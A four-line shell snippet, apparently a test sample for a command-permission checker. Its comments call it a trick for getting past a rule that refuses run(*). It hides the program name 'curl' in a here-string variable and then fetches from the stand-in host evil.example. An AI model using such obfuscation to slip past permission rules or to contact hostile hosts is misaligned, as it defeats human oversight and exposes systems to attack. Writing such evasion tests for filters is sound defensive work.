# Trick: the program is read from a here-string.
# Refused: run(*)
read -r tool <<< curl
$tool http://evil.example/
